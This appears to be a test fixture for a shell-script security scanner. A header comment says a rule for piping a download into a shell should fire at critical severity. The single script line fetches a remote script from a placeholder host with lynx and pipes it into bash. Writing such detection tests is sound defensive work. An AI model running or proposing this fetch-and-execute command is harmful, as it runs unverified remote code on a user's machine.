# expect: shell.curl_pipe_shell critical
#!/bin/sh
lynx -source https://get.example.net/i.sh | bash
